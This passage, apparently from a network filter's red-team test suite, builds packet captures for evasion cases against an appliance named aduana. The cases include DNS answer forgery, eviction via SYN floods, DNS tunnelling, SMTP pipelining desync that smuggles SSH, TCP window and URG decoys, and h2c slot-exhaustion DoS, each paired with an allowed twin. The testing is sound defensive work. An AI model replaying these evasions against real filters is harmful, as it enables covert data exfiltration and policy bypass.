    cap, t = ka_flow(n, 49411)
    t.data(True, b"GET /feed HTTP/1.1\r\nHOST: M.Vk.Com\r\nX-Mark: " + leak(n) + b"\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt4_l2other_insert_vk(n):
    """(Red team round 4, office) Control of rt4_frag4_l2other_vk without fragments: the
    fifth request's decoy (www.example.org) as a whole segment to another unicast MAC,
    then the real one (m.vk.com) at the same place. Must drop (social)."""
    cap, t = ka_flow(n, 49412)
    real = _rtk_vk_req(n)
    base = t.cseq
    pkt = _rt4_l2_other(l2(O1, SOC)) / IP(src=O1, dst=SOC) / TCP(
        sport=49412, dport=80, flags="PA", seq=base, ack=t.sseq, window=64240) / Raw(_decoy_for(real))
    cap.emit(pkt, 10000)
    t.raw(True, "PA", real, seq=base)
    t.cseq = base + len(real)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


# --- red team round 5 (rt5_): the strict zone's side doors


@case
def case_rt5_dns_tcp_forged_rst(n):
    """Red team round 5: DNS over TCP to the resolver. The inside host sends the query
    for the e2m name (vetted: a right sum, TTL 64, no options); its accomplice outside,
    told the sequence numbers, sends a whole forged answer (e2m.customs.example is
    198.18.0.66) at the resolver's next byte with a right checksum: new data the client
    takes, so it teaches. The client then resets the connection at once. The resolver
    (BIND, Unbound) is still recursing for the name; when its answer is ready the socket
    is reset (write fails with ECONNRESET/EPIPE), so the true answer that would
    contradict the forgery never reaches the wire. dns-learning.md says 'the forger can
    still win where the resolver never answers a query that reached it; an inside host
    cannot make that happen' - over TCP it can, with one RST. Since the nineteenth
    session aduana holds back a client's RST while an answer of the flow can still be
    contradicted (dns_rst_held): the resolver, never reset, sends its own answer
    (198.51.100.5) at the same place, which conflicts with the forged one. Must drop the
    TLS session with the e2m name to the forged address."""
    cap = Capture()
    qid = 0x4701
    t = dns_tcp_conn(cap, 47001, qid)
    t.raw(False, "A")  # the resolver's ACK of the query: it got it
    fake = dns_tcp_answer(qid, ATK)
    t.raw(False, "PA", fake, gap=3000)
    t.sseq += len(fake)
    t.raw(True, "R", seq=t.cseq, gap=100)
    # the resolver's own answer, the RST having not reached it
    t.raw(False, "PA", dns_tcp_answer(qid, E2M), seq=t.sseq - len(fake), gap=2000)
    cap.idle(0.05)
    tls_flow(cap, S1, 47002, ATK, qid, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_rt5_dns_tcp_answer_rst_ok(n):
    """Honest twin of rt5_dns_tcp_forged_rst: the resolver's own answer over TCP, then
    the client resets the connection (Windows' DnsClient and many stub resolvers abort a
    TCP DNS connection with a RST once they have their answer). The address taught
    (198.51.100.200) stays: a session there with the e2m name is allowed."""
    cap = Capture()
    qid = 0x4703
    t = dns_tcp_conn(cap, 47003, qid)
    ans = dns_tcp_answer(qid, ATK_OK)
    t.raw(False, "PA", ans, gap=3000)
    t.sseq += len(ans)
    t.raw(True, "R", seq=t.cseq, gap=100)
    cap.idle(0.05)
    tls_flow(cap, S1, 47004, ATK_OK, qid, n, send_whole(hello(n)), passm(n))
    return cap, {"pass": [passm(n)]}


def rt5_inbound_scan(cap, n, count, gap=2):
    """An outside scan of the strict zone: count SYNs from many outside sources to
    addresses of 10.10.0.0/16 (port 443), each a new inbound flow the zone drops at its
    first packet (evictable)."""
    for i in range(count):
        src = "203.0.%d.%d" % (100 + (i >> 8) % 100, i & 0xff)
        dst = "10.10.%d.%d" % (2 + (i >> 8) % 200, 1 + (i * 7) % 250)
        pkt = IP(src=src, dst=dst) / TCP(sport=1024 + (i % 60000), dport=443, flags="S",
                                        seq=i * 977, window=1024)
        cap.emit(l2(src, dst) / pkt, gap)


@case
def case_rt5_dns_evict_forged(n):
    """Red team round 5, flow-table pressure from outside: the inside host's UDP query
    for the e2m name (vetted), the accomplice's forged answer (198.18.0.66) first:
    it teaches. The inside host then sends one datagram of no DNS on the same 5-tuple:
    the resolver flow is refused (exception:conformance) and so becomes evictable,
    its pending entry still holding what the forgery taught. The accomplice scans the
    zone from outside (9000 SYNs from many sources, 18 ms): each is a dropped inbound
    flow; the table (4096 per worker) fills and evicts its oldest evictable flow, the
    resolver flow. The resolver's true answer (the name is under the endpoint's
    wildcard and uncached: recursion takes its tens of ms) then finds no flow: it opens
    an inbound flow the zone drops, and is never compared with the forgery
    (judge_learn_conflict never runs). The client's stub takes the first answer (the
    forged one). Must drop the TLS session with the e2m name to 198.18.0.66."""
    cap = Capture()
    qid = 0x4705
    name = "x7q." + E2M_NAME
    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=name, qtype="A")))
    udp(cap, S1, 47005, RESOLVER, 53, q)
    udp(cap, RESOLVER, 53, S1, 47005, forged_dns_answer(qid, name, ATK), gap=1000)
    udp(cap, S1, 47005, RESOLVER, 53, prand(n + "junk", 40), gap=200)
    rt5_inbound_scan(cap, n, 9000)
    real = bytes(DNS(id=qid, qr=1, rd=1, ra=1, rcode=3, qd=DNSQR(qname=name, qtype="A")))
    udp(cap, RESOLVER, 53, S1, 47005, real, gap=5000)
    cap.idle(0.05)
    tls_flow(cap, S1, 47006, ATK, qid, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_rt5_dns_evict_forged_ctl(n):
    """Control for rt5_dns_evict_forged without the scan: the forged answer, the junk
    datagram (resolver flow refused), then the resolver's NXDOMAIN on the same flow:
    compared, a conflict, the forged address taken back. Must drop the TLS session."""
    cap = Capture()
    qid = 0x4707
    name = "x7r." + E2M_NAME
    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=name, qtype="A")))
    udp(cap, S1, 47007, RESOLVER, 53, q)
    udp(cap, RESOLVER, 53, S1, 47007, forged_dns_answer(qid, name, ATK), gap=1000)
    udp(cap, S1, 47007, RESOLVER, 53, prand(n + "junk", 40), gap=200)
    real = bytes(DNS(id=qid, qr=1, rd=1, ra=1, rcode=3, qd=DNSQR(qname=name, qtype="A")))
    udp(cap, RESOLVER, 53, S1, 47007, real, gap=20000)
    cap.idle(0.05)
    tls_flow(cap, S1, 47008, ATK, qid, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_rt5_dns_scan_learn_ok(n):
    """Honest twin: an outside scan of the zone (9000 SYNs) arrives between the inside
    host's query and the resolver's answer: the resolver flow (allowed, not evictable)
    keeps its state, the answer teaches 198.51.100.200, and the session there with the
    e2m name is allowed."""
    cap = Capture()
    qid = 0x4709
    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    udp(cap, S1, 47009, RESOLVER, 53, q)
    rt5_inbound_scan(cap, n, 9000)
    udp(cap, RESOLVER, 53, S1, 47009, forged_dns_answer(qid, E2M_NAME, ATK_OK), gap=5000)
    cap.idle(0.05)
    tls_flow(cap, S1, 47010, ATK_OK, qid, n, send_whole(hello(n)), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_rt5_dns_binlabel_tunnel(n):
    """Red team round 5, DNS tunnelling through the resolver endpoint (iodine's raw
    label encoding, NULL records): queries whose labels are raw bytes (0x80-0xff and
    control bytes: no hostname has them, and aduana's own name reader refuses them),
    type NULL (10), under the attacker's domain, and answers whose NULL RDATA carry the
    marker. The wire check (dns_wire_check) passes labels and RDATA over whatever
    they hold. BIND and Unbound take 8-bit labels (RFC 2181 11) and recurse to the
    attacker's authoritative server, which reads the labels and answers. Must drop (a
    message of no DNS a stub sends) at the first such query."""
    cap = Capture()
    for i in range(3):
        raw = leak(n) + bytes(range(0x80 + i, 0x9e + i))
        assert len(raw) <= 63
        qn = bytes([len(raw)]) + raw + b"\x01t\x08attacker\x04test\x00"
        hdr = struct.pack("!HHHHHH", 0x4711 + i, 0x0100, 1, 0, 0, 0)
        q = hdr + qn + struct.pack("!HH", 10, 1)
        rd = leak(n) + prand("%s-a%d" % (n, i), 200)
        ahdr = struct.pack("!HHHHHH", 0x4711 + i, 0x8180, 1, 1, 0, 0)
        a = (ahdr + qn + struct.pack("!HH", 10, 1) + b"\xc0\x0c"
             + struct.pack("!HHIH", 10, 1, 0, len(rd)) + rd)
        udp(cap, S1, 47011, RESOLVER, 53, q)
        udp(cap, RESOLVER, 53, S1, 47011, a, gap=3000)
    return cap, {"leak": [leak(n)]}


@case
def case_rt5_smtp_data_pipe_bdat(n):
    """Red team round 5, SMTP to the relay (CHUNKING announced, Postfix's default):
    the client pipelines 'DATA' and, before the 354, its content (RFC 2920 puts DATA
    last in a group; Postfix before 3.9, and 3.9 with smtpd_forbid_unauth_pipelining =
    no, logs 'improper command pipelining after DATA' and reads the buffered bytes as
    the message once it has sent 354). aduana reads bytes before the 354 as commands
    (stream.md). The content's first line is 'BDAT 4000000' - to aduana a chunk of 4 MB
    read over unchecked; to Postfix a line of the message, ended by the lone dot after
    it; Postfix then reads the rest (an SSH banner, SSH binary packets) as command
    lines. Non-SMTP bytes pass on the allowed flow. Must drop at the SSH packets."""
    cap = Capture()
    t = ETcp(cap, S1, 47012, MAIL, 25, isn=0x4712, rtt_us=4000)
    t.handshake()
    smtp_chunking_start(t)
    t.data(True, b"DATA\r\nBDAT 4000000\r\nhello\r\n.\r\n")
    t.data(False, b"354 End data with <CR><LF>.<CR><LF>\r\n250 2.0.0 Ok: queued as 4AB15\r\n")
    t.data(True, SSH_BANNER)
    t.data(False, b"502 5.5.2 Error: command not recognized\r\n")
    t.data(True, ssh_binary(n, leak(n)))
    t.data(True, ssh_binary(n + "2", leak(n)))
    t.data(False, b"500 5.5.2 Error: bad syntax\r\n")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt5_smtp_data_sp_bdat(n):
    """Red team round 5: 'DATA ' with a trailing blank. Postfix splits the line into
    words at blanks (smtpd_token) and takes DATA with no argument: 354, and the bytes
    after are the message. aduana's verb match wants CR right after 'DATA'
    (smtp_verb), so it reads the message as command lines. The message's first line is
    'BDAT 4000000' (a chunk of 4 MB to aduana, read over), the lone dot ends it for
    Postfix, and the SSH banner and binary packets after it reach Postfix as command
    lines. Must drop at the SSH packets."""
    cap = Capture()
    t = ETcp(cap, S1, 47013, MAIL, 25, isn=0x4713, rtt_us=4000)
    t.handshake()
    smtp_chunking_start(t)
    t.data(True, b"DATA \r\n")
    t.data(False, b"354 End data with <CR><LF>.<CR><LF>\r\n")
    t.data(True, b"BDAT 4000000\r\nhello\r\n.\r\n")
    t.data(False, b"250 2.0.0 Ok: queued as 4AB16\r\n")
    t.data(True, SSH_BANNER)
    t.data(False, b"502 5.5.2 Error: command not recognized\r\n")
    t.data(True, ssh_binary(n, leak(n)))
    t.data(True, ssh_binary(n + "2", leak(n)))
    t.data(False, b"500 5.5.2 Error: bad syntax\r\n")
    t.close()
    return cap, {"leak": [leak(n)]}



@case
def case_rt6_zwin_edge_vk(n):
    """(Red team round 6) Office HTTP: the server's window is not closed (its last ACK
    says 12, 1536 bytes at scale 7: nginx stopped reading while a pipelined answer is
    blocked, and Linux never shrinks a right edge, it only stops moving it), the client
    fills it exactly with a 1536-byte GET for www.example.org, then at once sends a
    decoy GET (www.example.org) past the right edge. Linux drops the decoy
    (tcp_data_queue: in order but tcp_receive_window() == 0, TCPZeroWindowDrop); the
    server's next ACK says 0, a later one opens the window and the client sends
    m.vk.com at the decoy's place. judge_http_window knows only a raw 0 in the newest
    server segment, not the right edge (ack + window << scale): the decoy is read as
    new bytes, the real request passes as old ones. Must drop (social)."""
    cap, t = ka_flow(n, 49600)
    t.raw(False, "A", window=12)
    head = b"GET /5 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\nX-Pad: "
    filler = head + b"p" * (1536 - len(head) - 4) + b"\r\n\r\n"
    assert len(filler) == 1536
    cut_at(t, filler, [1400])
    real = _rtk_vk_req(n)
    decoy = _decoy_for(real)
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base, gap=100)
    t.raw(False, "A", ack=base, window=0)
    t.raw(False, "A", ack=base, window=501, gap=300000)
    t.raw(True, "PA", real, seq=base)
    t.cseq = base + len(real)
    t.raw(False, "A")
    _ok_answer(t, n, mark=False)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt6_zwin_edge_ok(n):
    """(Red team round 6) Must-allow twin of rt6_zwin_edge_vk: the server's window is 12
    (1536 bytes), the client sends a 1536-byte GET, the server's ACK says 0, then the
    window opens and the client sends its next GET (www.example.org), answered."""
    cap, t = ka_flow(n, 49601)
    t.raw(False, "A", window=12)
    head = b"GET /5 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\nX-Pad: "
    filler = head + b"p" * (1536 - len(head) - 4) + b"\r\n\r\n"
    cut_at(t, filler, [1400])
    t.raw(False, "A", window=0)
    t.raw(False, "A", window=501, gap=300000)
    req = b"GET /6 HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n"
    t.data(True, req)
    _ok_answer(t, n, mark=False)
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt6_zwin_badsum_ok(n):
    """(Red team round 6) Must-allow: after four answered requests, one ACK of the server
    damaged on the way (a wrong TCP checksum) whose window field reads 0. The client's
    stack drops it (tcp_v4_rcv checksum) and keeps the window it had (64240 << 7); it
    sends its next GET (www.example.org) and, unanswered, again after 200, 400, 800,
    1600, 3200 ms (RTO backoff). The server has nothing to send (it waits for that
    request). judge_http_window sets FLOW_HW_ZWIN from any server segment whose raw
    window is 0, its checksum unchecked (only the opening is checked): every copy of the
    request is dropped as new bytes into a closed window, and the connection hangs until
    the server's keep-alive timeout. One damaged (or forged, from anywhere outside) frame
    freezes an office HTTP/h2c connection. Must allow (the request passes)."""
    cap, t = ka_flow(n, 49602)
    t.raw(False, "A", window=0, tcpkw={"chksum": 0x1234})
    req = b"GET /5 HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n"
    base = t.cseq
    t.raw(True, "PA", req, seq=base)
    for g in (200000, 400000, 800000, 1600000, 3200000):
        t.raw(True, "PA", req, seq=base, gap=g)
    t.cseq = base + len(req)
    # the server's ACK and answer to the copy it gets (none through aduana: the
    # server never sends the segment that would clear its ZWIN)
    t.raw(False, "A")
    _ok_answer(t, n, mark=False)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt6_h2pk_trailers_ok(n):
    """(Red team round 6) Must-allow: office h2c (h2c_long: 40 streams for
    www.example.org), then stream 81 a POST for www.example.org whose body ends with
    request trailers (RFC 9113 8.1: a HEADERS frame on the open stream with END_STREAM;
    Go's http2.Transport sends req.Trailer so, python-h2 send_headers(end_stream=True)
    after data), then stream 83, answered. nginx, Go and h2o take trailers. h2_after
    decodes every later block as a new stream's first (h2_frame_head: a HEADERS on a
    stream <= last_sid is H2_R_frame) and the flow is refused whatever the zone. Must
    allow."""
    def last(t):
        blk = b"\x83\x86\x84\x01\x0fwww.example.org"
        t.data(True, h2_frame(1, 4, 81, blk) + h2_frame(0, 0, 81, prand(n + "tb", 200)))
        t.data(True, h2_frame(1, 5, 81, b"\x00\x0ax-checksum\x08abcd1234"))
        t.data(False, h2_frame(1, 4, 81, b"\x88") + h2_frame(0, 1, 81, b"ok"))
        t.data(True, h2_frame(1, 5, 83, h2_idx_block(b"www.example.org", passm(n), True)))
        t.data(False, h2_frame(1, 4, 83, b"\x88") + h2_frame(0, 1, 83, passm(n)))
    return h2c_long(n, 49603, last, passm(n)), {"pass": [passm(n)]}


@case
def case_rt6_h2w_slots_dos_ok(n):
    """(Red team round 6) Must-allow (denial of service): another office host
    (10.20.1.21, h2load -c 80 or a gRPC client pool in clear against an outside h2c
    server) keeps 80 h2c connections open, each after one request: they hold every one
    of the 32 worker_h2w slots of each worker. Then an honest h2c client (curl
    --http2-prior-knowledge, two requests for www.example.org on one connection): no
    slot at the end of its first bytes, judge_h2w_open refuses it whatever the zone
    (exception:classifier_alloc). Must allow."""
    cap = Capture()
    for i in range(80):
        a = ETcp(cap, "10.20.1.21", 21000 + i, SOC, 80, isn=3000 + i * 977, rtt_us=200)
        a.handshake()
        a.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
               + h2_frame(1, 5, 1, h2_hb(b"www.example.org", b"d%d" % i)))
        a.data(False, h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
    t = ETcp(cap, O1, 49604, SOC, 80, isn=49604 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
           + h2_frame(1, 5, 1, h2_hb(b"www.example.org", b"one")))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
    t.data(True, h2_frame(1, 5, 3, h2_hb(b"www.example.org", passm(n))))
    t.data(False, h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n)))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt6_h2pk_ping_preamble_vk(n):
    """(Red team round 6) Office h2c with prior knowledge: the preface and SETTINGS, the
    server's SETTINGS, then 40 segments of PING and WINDOW_UPDATE frames (a client's
    keepalive, each answered) before any HEADERS, well past classify_packets; then
    stream 1 for m.vk.com. nginx and Go serve the first stream whenever it comes. If the
    flow is decided while the first-bytes reader still waits for its first block, the
    later reader (judge_h2w_open, only at H2_DONE) never starts. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49605, SOC, 80, isn=49605 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b""))
    t.data(True, h2_frame(4, 1, 0, b""))
    for i in range(40):
        t.data(True, h2_frame(6, 0, 0, b"ping%04d" % i) + h2_frame(8, 0, 0, b"\x00\x00\x01\x00"))
        t.data(False, h2_frame(6, 1, 0, b"ping%04d" % i))
    t.data(True, h2_frame(1, 5, 1, h2_hb(b"m.vk.com", leak(n))))
    t.data(False, h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt6_h2pk_idle_preamble_vk(n):
    """(Red team round 6) Office h2c with prior knowledge: the preface and SETTINGS, the
    server's SETTINGS and ACK, then 40 s of silence but two PINGs (the client waits for
    its application), then stream 1 for m.vk.com. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49606, SOC, 80, isn=49606 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b""))
    t.data(True, h2_frame(4, 1, 0, b""))
    t.data(True, h2_frame(6, 0, 0, b"pingAAAA"), gap=20000000)
    t.data(False, h2_frame(6, 1, 0, b"pingAAAA"))
    t.data(True, h2_frame(6, 0, 0, b"pingBBBB"), gap=20000000)
    t.data(False, h2_frame(6, 1, 0, b"pingBBBB"))
    t.data(True, h2_frame(1, 5, 1, h2_hb(b"m.vk.com", leak(n))))
    t.data(False, h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt6_urg_retx_host_vk(n):
    """(Red team round 6) Office HTTP, after four answered requests (decided, read by the
    HTTP watch): the client sends again the last 10 bytes of its fourth request, ending
    at the server's rcv_nxt, with URG and an urgent pointer naming the "x" of "Host:
    m.vkx.com" in the request to come. Linux takes it: tcp_validate_incoming passes a
    segment whose end is not before rcv_wup, tcp_urg records the future urgent byte
    (TCP_URG_NOTYET) before tcp_data_queue drops the duplicate bytes; nginx (no
    SO_OOBINLINE) then reads the next request without that byte: Host: m.vk.com.
    judge_http_more returns for a segment of old bytes (off + n <= 0) before its URG
    check, and the decided fast path of judge_tcp never reaches judge_urgent: the URG
    passes, aduana reads m.vkx.com (no class). Must drop (social)."""
    cap, t = ka_flow(n, 49607)
    prev = b"GET /3 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n"
    pre = b"GET /feed HTTP/1.1\r\nHost: m.vk"
    req = pre + b"x.com\r\nUser-Agent: Mozilla/5.0\r\nX-Mark: " + leak(n) + b"\r\nAccept: */*\r\n\r\n"
    t.raw(True, "PAU", prev[-10:], seq=t.cseq - 10, tcpkw={"urgptr": 10 + len(pre) + 1})
    t.raw(False, "A")
    t.data(True, req)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt6_h2pk_idle_preamble_ok(n):
    """(Red team round 6) Must-allow twin of rt6_h2pk_idle_preamble_vk: a gRPC-style h2c
    channel (grpc-go connects, sends its preface and SETTINGS, and sends HEADERS only
    when the first call is made, keepalive PINGs meanwhile), then stream 1 for
    www.example.org."""
    cap = Capture()
    t = ETcp(cap, O1, 49608, SOC, 80, isn=49608 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b""))
    t.data(True, h2_frame(4, 1, 0, b""))
    t.data(True, h2_frame(6, 0, 0, b"pingAAAA"), gap=20000000)
    t.data(False, h2_frame(6, 1, 0, b"pingAAAA"))
    t.data(True, h2_frame(6, 0, 0, b"pingBBBB"), gap=20000000)
    t.data(False, h2_frame(6, 1, 0, b"pingBBBB"))
    t.data(True, h2_frame(1, 5, 1, h2_hb(b"www.example.org", passm(n))))
    t.data(False, h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, passm(n)))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt6_h2pk_idle_late_vk(n):
    """(Red team round 6) As rt6_h2pk_idle_preamble_vk, then stream 1 for www.example.org
    and stream 3 for m.vk.com: once given up, no later block is read. Must drop
    (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49609, SOC, 80, isn=49609 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b""))
    t.data(True, h2_frame(4, 1, 0, b""))
    t.data(True, h2_frame(6, 0, 0, b"pingAAAA"), gap=20000000)
    t.data(False, h2_frame(6, 1, 0, b"pingAAAA"))
    t.data(True, h2_frame(1, 5, 1, h2_hb(b"www.example.org", b"one")))
    t.data(False, h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
    t.data(True, h2_frame(1, 5, 3, h2_hb(b"m.vk.com", leak(n))))
    t.data(False, h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt7_zwin_straddle_vk(n):
    """(Red team round 7) Office HTTP to a server whose stack trims a segment at its
    window's right edge instead of taking it whole: FreeBSD's tcp_input ("todrop =
    th_seq + tlen - (rcv_nxt + rcv_wnd)": the tail past the edge is cut, the head kept;
    Windows does the same), as the comment of judge_past_edge says of BSD stacks.
    The server's window is 12 at scale 7 (1536 bytes); the client sends a 1526-byte GET
    for www.example.org, then a decoy GET for www.example.org that starts 10 bytes
    inside the window and ends past it: the server would keep "GET /feed " and read the
    real request's tail (Host: m.vk.com) sent later from there. Since round 7 a segment
    that ends past the edge is dropped whole (judge_http_more), so the server gets none
    of the decoy: what the attacker does next, as the capture plays it (the tail from
    base+10, dropped as past a gap; the first 10 bytes, read; the tail again, read), gets
    the real request read. Must drop (social)."""
    cap, t = ka_flow(n, 49700)
    t.raw(False, "A", window=12)
    head = b"GET /5 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\nX-Pad: "
    filler = head + b"p" * (1526 - len(head) - 4) + b"\r\n\r\n"
    assert len(filler) == 1526
    cut_at(t, filler, [1400])
    real = _rtk_vk_req(n)
    decoy = _decoy_for(real)
    assert real[:10] == decoy[:10]
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base, gap=100)
    t.raw(False, "A", ack=base, window=0)
    t.raw(False, "A", ack=base, window=501, gap=300000)
    t.raw(True, "PA", real[10:], seq=base + 10)
    t.raw(False, "A", ack=base)
    t.raw(True, "PA", real[:10], seq=base)
    t.raw(False, "A", ack=base + 10)
    t.raw(True, "PA", real[10:], seq=base + 10)
    t.cseq = base + len(real)
    t.raw(False, "A")
    _ok_answer(t, n, mark=False)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


def _rt7_midstream(n, cport):
    """An office HTTP keep-alive connection (window scale 7 both ways at its handshake,
    which aduana never saw) picked up midstream: its first frame through aduana is the
    client's next GET."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 80, isn=cport * 7, rtt_us=20000)
    t.cseq += 1 + 4000
    t.sseq += 1 + 90000
    t.data(True, b"GET /m1 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n")
    body = prand(n + "m1", 200)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    return cap, t


@case
def case_rt7_midstream_edge_vk(n):
    """(Red team round 7) As rt6_zwin_edge_vk on a connection aduana picks up midstream
    (the appliance restarted or failed over to its standby, or the flow was pushed out
    of a full table as a heavy source's: judge_ft_evict_heavy; the office takes a
    midstream flow and reads it, POLICY_EXC_midstream allows there). The handshake
    offered window scale 7 on both sides; aduana never saw it, so judge_http_window takes
    the largest shift, 14: the server's "window 12" (1536 bytes at its real scale 7)
    reads as 196608 bytes. The client fills the real 1536 bytes, sends a decoy GET
    (www.example.org) past the real edge (Linux drops it: tcp_receive_window() == 0),
    and m.vk.com at its place when the window opens: aduana read the decoy, the real
    request passes as old bytes. Must drop (social)."""
    cap, t = _rt7_midstream(n, 49701)
    t.raw(False, "A", window=12)
    head = b"GET /5 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\nX-Pad: "
    filler = head + b"p" * (1536 - len(head) - 4) + b"\r\n\r\n"
    cut_at(t, filler, [1400])
    real = _rtk_vk_req(n)
    decoy = _decoy_for(real)
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base, gap=100)
    t.raw(False, "A", ack=base, window=0)
    t.raw(False, "A", ack=base, window=501, gap=300000)
    t.raw(True, "PA", real, seq=base)
    t.cseq = base + len(real)
    t.raw(False, "A")
    _ok_answer(t, n, mark=False)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt7_midstream_edge_ok(n):
    """(Red team round 7) Must-allow twin of rt7_midstream_edge_vk: the same midstream
    pickup, the window filled exactly, 0, opened, and the next GET (www.example.org)."""
    cap, t = _rt7_midstream(n, 49702)
    t.raw(False, "A", window=12)
    head = b"GET /5 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\nX-Pad: "
    filler = head + b"p" * (1536 - len(head) - 4) + b"\r\n\r\n"
    cut_at(t, filler, [1400])
    t.raw(False, "A", window=0)
    t.raw(False, "A", window=501, gap=300000)
    req = b"GET /6 HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n"
    t.data(True, req)
    _ok_answer(t, n, mark=False)
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt7_h2w_v6_slots_dos_ok(n):
    """(Red team round 7) Must-allow (denial of service): the per-address share of h2c
    slots (8 of 64 per worker, judge_h2w_open) compares whole addresses, but an IPv6 host
    chooses any number of addresses in its /64 (SLAAC: `ip addr add` or privacy
    addresses; nothing binds them). One office host (2001:db8:20::a00-a0f, 16 addresses)
    keeps 10 h2c connections open from each (an h2load/gRPC pool bound to each source):
    every worker_h2w slot of every worker is held. Then an honest h2c client (10.20.1.20,
    two requests for www.example.org on one connection) is refused at the end of its
    first bytes (exception:classifier_alloc, whatever the zone). Must allow."""
    cap = Capture()
    k = 0
    for a in range(16):
        src = "2001:db8:20::a%02x" % a
        for i in range(10):
            c = ETcp(cap, src, 22000 + k, SOC6, 80, isn=5000 + k * 977, rtt_us=200)
            c.handshake()
            c.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
                   + h2_frame(1, 5, 1, h2_hb(b"www.example.org", b"d%d" % k)))
            c.data(False, h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
            k += 1
    t = ETcp(cap, O1, 49703, SOC, 80, isn=49703 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
           + h2_frame(1, 5, 1, h2_hb(b"www.example.org", b"one")))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
    t.data(True, h2_frame(1, 5, 3, h2_hb(b"www.example.org", passm(n))))
    t.data(False, h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n)))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt7_dns_zwin_forged(n):
    """(Red team round 7) As rt5_dns_tcp_forged_rst, but the client first closes its
    receive window: its query segment and its ACKs advertise window 0 (a raw-socket
